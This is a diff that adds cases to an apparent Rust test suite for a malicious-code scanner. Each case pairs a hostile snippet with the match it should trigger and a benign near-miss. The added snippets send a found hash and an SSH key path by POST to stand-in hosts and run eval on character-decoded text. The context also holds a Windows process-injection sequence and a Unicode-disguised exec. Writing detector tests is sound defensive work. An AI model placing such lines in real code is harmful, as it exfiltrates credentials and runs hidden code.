@@ -420,6 +420,27 @@ fn cases() -> Vec<Case> {
             "p = k.OpenProcess(1, False, 1)\na = k.VirtualAllocEx(p, 0, 9, 1, 4)\nk.WriteProcessMemory(p, a, b'x', 1, None)\nk.CreateRemoteThread(p, None, 0, a, a, 0, None)\n",
             "k.GetTickCount()\n",
         ),
+        pair(
+            "R-03",
+            library,
+            "const found = /([a-f0-9]{64})/.exec(text);\nrequire('https').request('https://made-up.github.io/in', { method: 'POST' }).end(found);\n",
+            "([a-f0-9]{64})",
+            "SHA256:([a-f0-9]{64})",
+        ),
+        pair(
+            "O-05",
+            library,
+            "const next = sum ^ text.charCodeAt(at);\neval(String.fromCharCode.apply(null, text));\n",
+            "eval(String.fromCharCode.apply(null, text))",
+            "eval('String.fromCharCode.apply(null, [0])')",
+        ),
+        pair(
+            "R-18",
+            library,
+            "const where = process.env.HOME + '/.ssh/id_rsa';\nfetch('https://made-up.trycloudflare.com', { method: 'POST', body: where });\n",
+            "fetch('https://made-up.trycloudflare.com'",
+            "console.log('You get an address of *.trycloudflare.com');\nfetch('https://made-up.invalid'",
+        ),
         pair("O-04", |script| wheel("made_up.py", script), "𝚎𝚡𝚎𝚌('print(1)')\n", "𝚎𝚡𝚎𝚌", "exec"),
         pair(
             "O-03",
